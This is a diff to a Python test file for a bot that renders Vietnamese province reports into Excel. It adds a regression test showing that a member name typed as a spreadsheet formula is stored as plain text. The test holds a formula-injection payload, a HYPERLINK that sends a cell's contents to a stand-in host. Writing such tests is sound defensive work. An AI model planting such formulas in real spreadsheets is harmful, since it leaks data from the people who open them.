@@ -3,10 +3,12 @@ from outside, so it fills the report and nothing else (no Python internals, no c
 
 from __future__ import annotations
 
+import io
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from bot.report_files import TemplateError, check, packaged, render, sample_report
 from tests.bot.reports_read import all_texts, edited, opened
@@ -40,3 +42,22 @@ def test_a_province_without_communes_does_not_say_they_all_submitted() -> None:
     listed = texts.index("3. Các xã chưa nộp báo cáo kỳ này:")
     assert texts[listed + 1] == "Không có xã trực thuộc."
     assert "Tất cả các xã đã nộp báo cáo." not in texts
+
+
+def test_a_name_typed_as_a_formula_is_text_in_the_annex() -> None:
+    """Names come from the chat (a member types their own): one typed as a spreadsheet formula
+    was written as a formula, which Excel runs when the province opens the annex (a link that
+    sends the sheet's cells away)."""
+    typed = '=HYPERLINK("http://x.example/?"&B9,"Nguyễn Văn An")'
+    data = sample_report()
+    assert data.standings is not None
+    first = replace(data.standings.members[0], name=typed)
+    data = replace(data, standings=replace(data.standings, members=(first,)))
+    book = load_workbook(io.BytesIO(render(data, None).xlsx))
+    found = [
+        cell
+        for row in book["Xếp hạng"].iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    assert [(cell.value, cell.data_type) for cell in found] == [(typed, "s")]
